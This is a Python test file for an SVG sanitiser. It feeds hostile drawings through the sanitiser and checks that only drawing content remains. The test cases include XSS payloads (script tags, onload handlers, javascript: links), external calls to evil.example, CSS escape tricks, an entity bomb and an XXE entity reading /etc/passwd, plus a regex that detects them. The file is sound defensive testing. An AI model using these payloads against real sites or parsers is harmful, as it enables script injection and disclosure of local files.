"""Hostile drawings: whatever they try, only the drawing is left."""

from __future__ import annotations

import re
from xml.etree import ElementTree as ET

import pytest
from decks.own.svg.drawings import RECT, refused, svg
from hypothesis import given, settings
from hypothesis import strategies as st

from numbers_station.decks.own.image import BadImage, CleanPicture
from numbers_station.decks.own.svg.clean import MAX_DEPTH, check, sanitise

EVIL = re.compile(
    rb"script|\son\w+=|http:|https:|//|javascript|data:|import|foreignObject|iframe|ENTITY|DOCTYPE"
    rb"|<a\b|<image|animate|<set|expression|\\",
    re.IGNORECASE,
)


def harmless(clean: CleanPicture) -> bytes:
    """The result, after making sure that it draws, and holds nothing that is not drawing."""
    data = clean.data.replace(b'xmlns="http://www.w3.org/2000/svg"', b"")
    assert not EVIL.search(data), data
    assert b"<rect" in data
    ET.fromstring(clean.data)
    check(clean.data)
    return clean.data


def test_a_drawing_stays_a_drawing() -> None:
    inside = (
        '<linearGradient id="sky"><stop offset="0" stop-color="#fff"/></linearGradient>'
        '<g transform="scale(2)"><path d="M0 0L10 10" style="stroke:black;fill:none"/>'
        '<circle r="5" fill="url(#sky)"/><use xlink:href="#sky"/></g>'
        "<text>hi <tspan>you</tspan></text>"
    )
    clean = sanitise(svg(inside))
    assert (clean.suffix, clean.width, clean.height) == (".svg", 512, 512)
    text = clean.data.decode()
    for kept in ("scale(2)", "M0 0L10 10", "stroke:black;fill:none", "hi", "you", "stop-color"):
        assert kept in text
    (name,) = re.findall(r'linearGradient id="(\S+)"', text)
    assert f"url(#{name})" in text
    assert f'href="#{name}"' in text
    assert name != "sky"
    assert clean.removed == ()


@pytest.mark.parametrize(
    ("inside", "removed"),
    [
        ("<script>alert(1)</script>", "script"),
        ("<script xlink:href='http://evil.example/x.js'/>", "script"),
        ("<g onload='alert(1)'/>", "onload"),
        ("<g ONCLICK='alert(1)'/>", "ONCLICK"),
        ("<image xlink:href='http://evil.example/track.png'/>", "image"),
        ("<image href='//evil.example/track.png'/>", "image"),
        ("<image href='track.png'/>", "image"),
        ("<image href='data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4='/>", "image"),
        ("<use href='http://evil.example/a.svg#x'/>", "href"),
        ("<use href='data:image/svg+xml,&lt;svg onload=alert(1)&gt;#x'/>", "href"),
        ("<a href='javascript:alert(1)'><circle r='1'/></a>", "a"),
        ("<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>", "iframe"),
        ("<animate attributeName='href' to='javascript:alert(1)'/>", "animate"),
        ("<set attributeName='onload' to='alert(1)'/>", "set"),
        ("<g style='fill:url(http://evil.example/x)'/>", "style"),
        ("<g fill='url(https://evil.example/x#y)'/>", "fill"),
        ("<g style='background:\\75rl(http://evil.example)'/>", "style"),
        ("<g style='width:expression(alert(1))'/>", "style"),
        ("<style>@import url(http://evil.example/x.css);</style>", "style"),
        ("<style>@import 'http://evil.example/x.css'</style>", "style"),
        ("<style>g{background:url('//evil.example/x')}</style>", "style"),
        ("<style>@font-face{src:url(http://evil.example/f)}</style>", "style"),
        ("<style>g{fill:image-set('http://evil.example/x' 1x)}</style>", "style"),
        ("<style><![CDATA[</style><script>alert(1)</script>]]></style>", "style"),
        ("<filter><feImage href='http://evil.example/x'/></filter>", "feImage"),
        ("<title>secret name</title><desc>words</desc>", "title"),
        ("<metadata><who xmlns='urn:x'>Alice</who></metadata>", "metadata"),
        ("<g data-name='x' aria-label='cat' role='img'/>", "aria-label"),
        ("<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'/>", "handler"),
        ("<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "script"),
    ],
)
def test_what_is_not_drawing_is_removed(inside: str, removed: str) -> None:
    clean = sanitise(svg(inside + RECT))
    text = harmless(clean)
    assert removed in clean.removed
    for name in (b"secret", b"Alice", b"cat", b"evil"):
        assert name not in text


def test_comments_and_instructions_are_removed() -> None:
    data = b"<?xml-stylesheet href='http://evil.example/x.css'?><!-- <script> -->" + svg(
        f"<!-- Alice --><?php evil ?>{RECT}"
    )
    assert b"Alice" not in harmless(sanitise(data))


def test_a_good_style_sheet_stays() -> None:
    sheet = (
        "<style>/* hi */ .a{fill:red} @import url(http://evil.example/x); #r, .b{fill:url(#g)}"
        ".c{stroke:url(http://evil.example);stroke-width:2}</style>"
    )
    clean = sanitise(svg(f'{sheet}<linearGradient id="g"/><rect class="a b c" id="r"/>'))
    text = harmless(clean).decode()
    assert ".a{fill:red}" in text
    assert ".c{stroke-width:2}" in text
    rule = re.search(r"#(\S+), .b\{fill:url\(#(\S+)\)\}", text)
    assert rule
    assert f'<rect class="a b c" id="{rule[1]}"' in text
    assert f'<linearGradient id="{rule[2]}"' in text


def test_a_prefix_hides_nothing() -> None:
    data = (
        b'<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9">'
        b'<s:script>alert(1)</s:script><s:rect width="9" height="9" onload="alert(1)"/></s:svg>'
    )
    assert sanitise(data).removed == ("onload", "script")
    harmless(sanitise(data))


def test_another_encoding_hides_nothing() -> None:
    text = svg(f"<script>alert(1)</script>{RECT}").decode()
    assert sanitise(text.encode("utf-16")).removed == ("script",)
    harmless(sanitise(text.encode("utf-16")))


def test_a_plain_doctype_is_dropped() -> None:
    doctype = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">'
    harmless(sanitise(doctype + svg(RECT)))


def test_entities_are_refused() -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>'.encode()
    assert refused(bomb + svg(f"<text>&l9;</text>{RECT}")) == "entities"
    outside = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    assert refused(outside + svg(f"<text>&x;</text>{RECT}")) == "entities"


def test_too_deep_and_too_many() -> None:
    deep = MAX_DEPTH + 1
    assert refused(svg("<g>" * deep + RECT + "</g>" * deep)) == "too_complex"
    assert refused(svg("<g>" * 50_000 + "</g>" * 50_000)) == "too_complex"
    assert refused(svg(RECT * 20_001)) == "too_complex"
    assert refused(svg(f'<path d="{"M0 0 " * 200_000}"/>')) == "too_complex"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "damaged"),
        (b"hello", "damaged"),
        (svg(RECT)[:-9], "damaged"),
        (b"\x89PNG\r\n\x1a\n", "damaged"),
        (b'<?xml version="1.0" encoding="x-none"?>' + svg(RECT), "damaged"),
        (b"<html><body/></html>", "no_svg"),
        (b'<svg viewBox="0 0 9 9"><rect/></svg>', "no_svg"),
        (svg(""), "nothing_left"),
        (svg("<script/>"), "nothing_left"),
        (svg(RECT, ""), "no_size"),
        (svg(RECT, 'viewBox="0 0 0 0"'), "no_size"),
        (svg(RECT, 'viewBox="0 0 nan 5"'), "no_size"),
        (svg(RECT, 'viewBox="0 0 1 1e9"'), "no_size"),
        (svg(RECT, 'width="100%" height="100%"'), "no_size"),
    ],
)
def test_no_drawing(data: bytes, code: str) -> None:
    assert refused(data) == code


def test_the_size_comes_from_width_and_height_if_need_be() -> None:
    clean = sanitise(svg(RECT, 'width="200px" height="100"'))
    assert (clean.width, clean.height) == (512, 256)
    assert b'<svg viewBox="0 0 200 100"' in clean.data


def test_ids_of_two_pictures_differ() -> None:
    first = sanitise(svg('<rect id="a"/>')).data
    second = sanitise(svg('<circle id="a"/>')).data
    ids = [re.findall(rb'id="(\S+?)"', data)[0] for data in (first, second)]
    assert ids[0] != ids[1]


def test_the_same_drawing_gives_the_same_bytes() -> None:
    assert sanitise(svg(RECT)).data == sanitise(svg(RECT)).data


@pytest.mark.parametrize(
    "data",
    [
        svg("<script/>" + RECT),
        svg(RECT + "<a href='#x'/>"),
        svg('<rect onload="x"/>'),
        svg('<use href="/x"/>' + RECT),
        svg("<title>x</title>" + RECT),
    ],
)
def test_the_check_of_results_is_not_for_show(data: bytes) -> None:
    with pytest.raises(BadImage):
        check(data)


MARKUP = ["<g>", "</g>", RECT, "<script>", "</script>", "<style>", "</style>", "<!--", "-->"]

CHARACTERS = ["<![CDATA[", "]]>", "&lt;", "&#106;", "\\75", "//e.x", "'>", "{", "}", ";", ")", "#a"]

VALUES = ["url(", "fill:", "@import '//x';", "<use href='#a'/>", "<g id='a' style='", "</a>"]

LINKS = ["<a href='java", "script:x'>"]

PIECES = st.sampled_from([*MARKUP, *CHARACTERS, *VALUES, *LINKS])


@settings(max_examples=150)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_nothing_evil_comes_out_of_any_mixture(inside: str) -> None:
    try:
        clean = sanitise(svg(RECT + inside))
    except BadImage:
        return
    harmless(clean)


@settings(max_examples=60)
@given(st.binary(max_size=200))
def test_any_bytes_are_refused_politely(data: bytes) -> None:
    refused(data)
